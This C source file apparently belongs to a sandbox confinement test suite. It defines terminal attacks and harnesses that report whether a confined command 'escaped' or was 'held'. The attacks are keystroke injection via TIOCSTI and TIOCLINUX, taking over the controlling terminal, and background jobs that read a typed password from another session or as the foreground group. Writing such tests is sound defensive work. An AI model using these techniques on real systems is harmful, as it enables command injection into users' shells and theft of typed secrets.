// SPDX-License-Identifier: Apache-2.0
// The caller's terminal: input pushed into it, for the caller's shell to read, and input read from
// it that was meant for the caller's shell.
#include "hostile.h"

#include <poll.h>
#include <pty.h>
#include <sys/ioctl.h>
#include <termios.h>

static void push(int fd) {
  ioctl(fd, TIOCSTI, "x");
  ioctl(fd, TIOCSTI, "\n");
  char paste[] = {3 /* TIOCL_PASTESEL */, 0};
  ioctl(fd, TIOCLINUX, paste);
}

static const char *const names[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0"};

static void take_terminal(void) {
  setsid();
  for (int fd = 0; fd < 3; fd++) {
    ioctl(fd, TIOCSCTTY, 0);
    ioctl(fd, TIOCSCTTY, 1);
    push(fd);
  }
  for (int i = 0; i < 3; i++) push(open(names[i], O_RDWR));
}

// TIOCSTI and TIOCLINUX on every terminal in reach.
static void injection(void) {
  for (int fd = 0; fd < 3; fd++) push(fd);
  for (int i = 0; i < 3; i++) push(open(names[i], O_RDWR | O_NOCTTY));
  // As the leader of a session that takes the terminal over.
  in_child(take_terminal);
}

#define TYPED "hunter2"

// Reads what is typed, if `fd` is a terminal that lets this process.
static void listen_to(int fd, const char *how) {
  struct pollfd polled = {.fd = fd, .events = POLLIN};
  char text[64] = {0};
  if (fd < 0 || !isatty(fd) || poll(&polled, 1, 5000) <= 0) return;
  if (read(fd, text, sizeof text - 1) > 0 && strstr(text, TYPED)) escaped("%s", how);
}

static void listen_in_front(void) {
  signal(SIGTTOU, SIG_IGN);
  signal(SIGTTIN, SIG_IGN);
  setpgid(0, 0);
  for (int fd = 0; fd < 3; fd++) {
    tcsetpgrp(fd, getpgrp());
    listen_to(fd, "as the foreground group");
  }
  int fd = open("/dev/tty", O_RDWR);
  tcsetpgrp(fd, getpgrp());
  listen_to(fd, "as the foreground group, by /dev/tty");
}

// Any process that has a terminal open can read it, unless it is the terminal of its session.
static void listen_elsewhere(void) {
  int tty = open("/dev/tty", O_RDWR);
  setsid();
  listen_to(tty, "/dev/tty from another session");
  for (int fd = 0; fd < 3; fd++) listen_to(fd, "from another session");
  for (int i = 0; i < 3; i++) listen_to(open(names[i], O_RDWR | O_NOCTTY), names[i]);
}

// A job in the background that reads what is typed into the shell in front of it.
static void background(void) {
  printf("ready\n");
  fflush(stdout);
  in_child(listen_elsewhere);
  in_child(listen_in_front);
}

// A shell with a job in the background, and a person who types.
int typist(char **argv) {
  int master, slave;
  if (openpty(&master, &slave, 0, 0, 0) < 0) return 3;
  pid_t shell = fork();
  if (shell == 0) {
    setsid();
    if (ioctl(slave, TIOCSCTTY, 0) < 0) _exit(4);
    close(master);
    pid_t job = fork();
    if (job == 0) {
      setpgid(0, 0);
      for (int fd = 0; fd < 3; fd++) dup2(slave, fd);
      close(slave);
      execvp(argv[0], argv);
      _exit(127);
    }
    int status = 0;
    waitpid(job, &status, 0);
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 128);
  }
  close(slave);
  char text[8192] = {0};
  size_t length = 0;
  int has_typed = 0;
  for (ssize_t count; length < sizeof text - 1 &&
                      (count = read(master, text + length, sizeof text - 1 - length)) > 0;) {
    length += count;
    if (!has_typed && strstr(text, "ready")) has_typed = write(master, TYPED "\n", 8) == 8;
  }
  char *escape = strstr(text, "escaped: ");
  if (escape) escape[strcspn(escape, "\r\n")] = 0;
  printf("%s\n", escape ? escape : has_typed && strstr(text, "held") ? "held" : text);
  int status;
  waitpid(shell, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

// A caller with a terminal, whose input it reads when the command has ended.
int terminal(char **argv) {
  int master, slave;
  if (openpty(&master, &slave, 0, 0, 0) < 0) return 3;
  pid_t pid = fork();
  if (pid == 0) {
    setsid();
    if (ioctl(slave, TIOCSCTTY, 0) < 0) _exit(4);
    int output = dup(1);
    fcntl(output, F_SETFD, FD_CLOEXEC);
    close(master);
    for (int fd = 0; fd < 3; fd++) dup2(slave, fd);
    close(slave);
    int status = start(argv), waiting = 0;
    ioctl(0, FIONREAD, &waiting);
    if (waiting > 0) dprintf(output, "escaped: %d bytes were pushed into the terminal\n", waiting);
    else dprintf(output, "held\n");
    _exit(status);
  }
  close(slave);
  char text[4096];
  // What the terminal shows is not the result.
  while (read(master, text, sizeof text) > 0) {}
  int status;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

const struct attack terminal_attacks[] = {{"injection", injection}, {"background", background}, {0}};
